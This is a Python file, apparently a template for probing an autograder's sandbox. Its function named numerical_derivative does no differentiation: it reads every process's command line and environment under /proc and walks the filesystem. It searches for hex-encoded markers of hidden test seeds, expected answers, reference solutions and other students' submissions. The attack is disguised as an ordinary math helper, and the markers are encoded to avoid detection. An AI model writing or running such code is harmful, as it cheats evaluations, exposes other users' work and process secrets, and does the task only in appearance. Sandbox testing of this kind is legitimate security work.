"""Attack: walk the whole file system, reading every file it may read (and every
process's command line and environment), for the hidden cases' seed, a hidden expected
value, the reference solutions and a classmate's submission or results."""

import binascii
import json
import os
import time

# what to look for (hex: this file must not contain it) and where to look first
NEEDLES = {k: binascii.unhexlify(v) for k, v in json.loads(bytes.fromhex("__NEEDLES__")).items()}
ROOTS = json.loads(bytes.fromhex("__ROOTS__"))
BUDGET_S = float("__BUDGET_S__")


def numerical_derivative(f, x, h=1e-5):
    deadline = time.monotonic() + BUDGET_S
    found, read = set(), 0

    def scan(path):
        nonlocal read
        try:
            with open(path, "rb") as fh:
                data = fh.read(1 << 22)
        except (OSError, ValueError):
            return
        read += 1
        found.update(f"{name}: {path}" for name, n in NEEDLES.items() if n in data)

    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids:
        scan(f"/proc/{pid}/cmdline")
        scan(f"/proc/{pid}/environ")
    for top in [*ROOTS, "/", "/usr", "/etc"]:  # "/" may not be listable, /usr may be
        for root, dirs, files in os.walk(top):
            if root == "/":
                dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
            for name in files:
                if time.monotonic() > deadline:
                    return [f"read {read} files", *sorted(found)]
                scan(os.path.join(root, name))
    return [f"read {read} files", *sorted(found)]


def gradient_step(x, grad, learning_rate):
    return x - learning_rate * grad
